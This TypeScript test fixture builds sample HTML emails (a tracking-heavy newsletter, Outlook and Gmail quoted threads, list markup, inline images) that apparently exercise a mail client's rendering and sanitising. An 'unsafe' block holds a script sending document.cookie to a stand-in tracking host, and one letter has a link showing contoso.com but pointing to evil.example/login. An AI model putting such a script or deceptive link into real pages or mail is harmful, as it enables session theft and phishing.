/** HTML mail as it really comes: newsletters of nested tables, tracking, pictures, and long threads quoted in three ways. */
import type { Block, FixedLetter } from './mail-model.js';

/** The letters, newest first. */
export function htmlLetters(): readonly FixedLetter[] {
	return [newsletter(), outlookThread(), gmailThread(), lists(), pictures()];
}

const track = (target: string, id: number): string =>
	`https://click.track.example/ls/click?upn=u001.${'aB3-xZ9_'.repeat(14)}&amp;id=${id}&amp;u=${encodeURIComponent(target)}`;

function newsletter(): FixedLetter {
	const story = (title: string, words: string, target: string, id: number): string =>
		`<tr><td style="padding:0 24px 24px"><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr>` +
		`<td width="180" valign="top"><a href="${track(target, id)}"><img src="https://img.news.example/story-${id}.jpg" width="160" height="120" alt="${title}"></a></td>` +
		`<td valign="top"><h2 style="margin:0;font:600 18px Georgia">${title}</h2><p style="margin:8px 0">${words}</p>` +
		`<table role="presentation"><tr><td bgcolor="#0f5ea8" style="border-radius:4px"><a href="${track(target, id + 100)}" style="color:#fff;padding:8px 16px;display:inline-block">Read more&nbsp;&rarr;</a></td></tr></table></td></tr></table></td></tr>`;
	const html =
		'<div style="display:none;max-height:0;overflow:hidden;opacity:0">The preview line nobody sees&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;</div>' +
		'<style>@import url("https://css.track.example/a.css");@media(max-width:600px){.w{width:100%!important}}.hide{display:none}</style>' +
		'<!--[if mso]><table><tr><td width="600"><![endif]-->' +
		'<table role="presentation" width="100%" bgcolor="#f2f2f2"><tr><td align="center"><table class="w" role="presentation" width="600" bgcolor="#ffffff">' +
		'<tr><td style="padding:24px"><img src="https://img.news.example/logo.png" width="120" alt="Retail Weekly"><h1>Retail Weekly</h1><p><em>Issue 47</em> &middot; 20&nbsp;November&nbsp;2026 &middot; <a href="' +
		`${track('https://news.example/47', 1)}">View in browser</a></p></td></tr>` +
		story(
			'Shelves that count themselves',
			'Three chains try weight sensors. The results are <b>good</b>, the batteries are <i>not</i>.',
			'https://news.example/shelves?ref=mail',
			2,
		) +
		story(
			'Returns &amp; refunds: what the law says now',
			'New rules from 1&nbsp;January. Fines up to &euro;50&thinsp;000 &mdash; or 4&#8239;% of turnover.',
			'https://news.example/returns',
			3,
		) +
		'<tr><td style="padding:0 24px 24px"><table border="1" cellpadding="4"><caption>Index of the week</caption><thead><tr><th>Segment</th><th align="right">Index</th><th align="right">Change</th></tr></thead><tbody><tr><td>Food</td><td align="right">104.2</td><td align="right">+0.4</td></tr><tr><td>Fashion</td><td align="right">97.8</td><td align="right" style="color:red">&minus;1.9</td></tr><tr><td colspan="2">All segments</td><td align="right">&minus;0.3</td></tr></tbody></table></td></tr>' +
		'<tr><td align="center" style="font-size:11px;color:#888">You get this because you subscribed. <a href="https://news.example/u/8f2?list=7&amp;go=1">Unsubscribe</a> | <a href="mailto:editor@news.example?subject=Hello%20there">Write to us</a> | <a href="#top">Top</a></td></tr>' +
		'</table></td></tr></table><!--[if mso]></td></tr></table><![endif]-->' +
		'<img src="https://open.track.example/o.gif?m=8f2b" width="1" height="1" alt=""><img src="https://open.track.example/p.gif" style="width:0;height:0" alt="">';
	const text =
		'Retail Weekly\r\nIssue 47 · 20 November 2026 · View in browser\r\n\r\nShelves that count themselves\r\nThree chains try weight sensors. The results are good, the batteries are not.\r\nRead more →\r\n\r\n' +
		'Returns & refunds: what the law says now\r\nNew rules from 1 January. Fines up to €50 000 — or 4 % of turnover.\r\nRead more →\r\n\r\nIndex of the week\r\nSegment\tIndex\tChange\r\nFood\t104.2\t+0.4\r\nFashion\t97.8\t−1.9\r\nAll segments\t\t−0.3\r\n\r\nYou get this because you subscribed. Unsubscribe | Write to us | Top';
	return {
		from: { name: 'Retail Weekly', address: 'weekly@news.example' },
		subject: 'Shelves that count themselves · Retail Weekly 47',
		body: [
			{ kind: 'raw', html, text },
			{
				kind: 'unsafe',
				html: '<script>fetch("https://open.track.example/js?"+document.cookie)</script><link rel="stylesheet" href="https://css.track.example/b.css"><iframe src="https://open.track.example/f"></iframe>',
			},
			{ kind: 'pixel', src: 'https://open.track.example/q.gif?m=8f2b' },
		],
		headers: [
			['List-Unsubscribe', '<https://news.example/u/8f2?list=7>, <mailto:unsubscribe@news.example>'],
			['List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'],
			['Precedence', 'bulk'],
		],
		folder: 'receipts',
		other: true,
		read: false,
	};
}

/** Ten answers, each with the whole history below it, as Outlook writes them. */
function outlookThread(): FixedLetter {
	const people = ['Adele Vance', 'Nestor Wilke', 'Patti Fernandez', 'Lee Gu'] as const;
	const addressOf = (name: string): string => `${name.replaceAll(' ', '.').toLowerCase()}@contoso.com`;
	let blocks: readonly Block[] = [
		{ kind: 'paragraph', text: 'Who can take the stand in hall 4 on Saturday?' },
		{ kind: 'list', items: ['09:00 to 13:00', '13:00 to 18:00'] },
	];
	for (let depth = 0; depth < 10; depth++) {
		const author = people[depth % people.length] ?? people[0];
		const reader = people[(depth + 1) % people.length] ?? people[0];
		blocks = [
			{
				kind: 'paragraph',
				text: `Answer ${depth + 1}: ${depth % 2 === 0 ? 'I can do the morning.' : 'Then I will take the afternoon, but not the whole of it.'}`,
			},
			{ kind: 'paragraph', text: reader.split(' ')[0] ?? '' },
			{
				kind: 'quote',
				headers: [
					['From', `${author} <${addressOf(author)}>`],
					['Sent', `Tuesday, November ${3 + depth}, 2026 ${8 + depth}:0${depth} AM`],
					['To', `${reader} <${addressOf(reader)}>`],
					['Cc', 'Trade fair team'],
					['Subject', 'RE: Stand in hall 4'],
				],
				blocks,
			},
		];
	}
	return {
		from: { name: 'Lee Gu', address: 'LeeG@contoso.com' },
		subject: 'Re: Stand in hall 4',
		body: blocks,
		folder: 'northlight',
	};
}

function gmailThread(): FixedLetter {
	const quote = (date: string, name: string, address: string, inner: string): string =>
		`<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On ${date}, ${name} &lt;<a href="mailto:${address}">${address}</a>&gt; wrote:<br></div>` +
		`<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">${inner}</blockquote></div>`;
	const first =
		'<div dir="ltr"><div>Hello Adele,</div><div><br></div><div>could you send me the <b>final</b> measurements?</div><div>1.20&nbsp;m or 1.25&nbsp;m?</div><div>--&nbsp;<br></div><div class="gmail_signature">Amélie Dubois<br>Proseware</div></div>';
	const second = `<div dir="ltr">1.25&nbsp;m, sorry for the mix-up.<div><br></div><div>Adele</div></div>${quote('Wed, 18 Nov 2026 at 14:02', 'Amélie Dubois', 'amelie.dubois@proseware.com', first)}`;
	const html = `<div dir="ltr">Perfect, thank you!<div>We start cutting tomorrow.</div></div>${quote('Wed, 18 Nov 2026 at 15:30', 'Adele Vance', 'AdeleV@contoso.com', second)}`;
	const text =
		'Perfect, thank you!\r\nWe start cutting tomorrow.\r\n\r\nOn Wed, 18 Nov 2026 at 15:30, Adele Vance <AdeleV@contoso.com> wrote:\r\n\r\n> 1.25 m, sorry for the mix-up.\r\n>\r\n> Adele\r\n>\r\n> On Wed, 18 Nov 2026 at 14:02, Amélie Dubois <amelie.dubois@proseware.com> wrote:\r\n>\r\n>> Hello Adele,\r\n>>\r\n>> could you send me the *final* measurements?\r\n>> 1.20 m or 1.25 m?\r\n>> --\r\n>> Amélie Dubois\r\n>> Proseware';
	return {
		from: { name: 'Amélie Dubois', address: 'amelie.dubois@proseware.com' },
		subject: 'Re: measurements',
		body: [{ kind: 'raw', html, text }],
		folder: 'sales',
		read: false,
	};
}

function lists(): FixedLetter {
	const html =
		'<h1>Opening a store</h1><p>Three steps, <u>in this order</u>:</p><ol start="3"><li>Permits<ul><li>fire</li><li>food<ul><li>cold counter</li><li>hot counter</li></ul></li></ul></li><li>Shelves<br>(two lines in one item)</li><li><p>People</p><p>with a second paragraph</p></li></ol>' +
		'<ol type="a"><li>letters</li><li>count too</li></ol><dl><dt>SKU</dt><dd>stock keeping unit</dd></dl><hr><pre>  npm   run\r\n\tdeploy   --store=5\r\n</pre><p>Inline <code>code</code>, <kbd>Ctrl</kbd>+<kbd>C</kbd>, x<sup>2</sup>, H<sub>2</sub>O, <s>struck</s>, <mark>marked</mark>, <q>quoted</q>.</p>' +
		'<blockquote><p>Measure twice, cut once.</p><blockquote>Cut once, measure never.</blockquote></blockquote>' +
		'<table><tr><td>outer left<table border="1"><tr><th>inner</th><th>table</th></tr><tr><td rowspan="2">tall</td><td>1</td></tr><tr><td>2</td></tr></table></td><td>outer right</td></tr></table>' +
		'<p>Link whose text lies: <a href="http://evil.example/login">https://contoso.com/login</a>, one without text <a href="https://contoso.com/empty"></a>, one without target <a>nothing</a>, one twice <a href="https://contoso.com/empty">again</a>.</p>';
	const text =
		'Opening a store\r\n\r\nThree steps, in this order:\r\n\r\n  3.  Permits\r\n     *   fire\r\n     *   food\r\n        *   cold counter\r\n        *   hot counter\r\n  4.  Shelves\r\n(two lines in one item)\r\n  5.  People\r\n\r\nwith a second paragraph';
	return {
		from: { name: 'Christie Cline', address: 'ChristieC@contoso.com' },
		subject: 'Checklist: opening a store',
		body: [{ kind: 'raw', html, text }],
		folder: 'projects2025',
	};
}

function pictures(): FixedLetter {
	const html =
		'<p>Before:</p><p><img src="cid:before@contoso.com" alt="The old window"></p><p>After:</p><p><img src="cid:after@contoso.com" alt=""></p>' +
		'<p>From the web: <img src="https://img.news.example/remote.jpg?u=adele" alt="A remote picture"> <img src="//img.news.example/no-scheme.png"> <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="A data picture"></p>' +
		'<p>Missing: <img src="cid:lost@contoso.com" alt="Lost"></p><div style="background:url(https://open.track.example/bg.png)">With a background</div>';
	const text =
		'Before:\r\n\r\n[cid:before@contoso.com]\r\n\r\nAfter:\r\n\r\n[cid:after@contoso.com]\r\n\r\nFrom the web: [A remote picture]\r\n\r\nMissing: [cid:lost@contoso.com]\r\n\r\nWith a background';
	return {
		from: { name: 'Grady Archie', address: 'GradyA@contoso.com' },
		subject: 'Shop window, before and after',
		body: [{ kind: 'raw', html, text }],
		attachments: [
			{
				kind: 'file',
				name: 'before.jpg',
				contentType: 'image/jpeg',
				bytes: 21_304,
				inline: true,
				contentId: 'before@contoso.com',
			},
			{
				kind: 'file',
				name: 'after.png',
				contentType: 'image/png',
				bytes: 18_022,
				inline: true,
				contentId: 'after@contoso.com',
			},
			{ kind: 'file', name: 'Window.pdf', contentType: 'application/pdf', bytes: 61_440 },
		],
		folder: 'archive2025',
	};
}
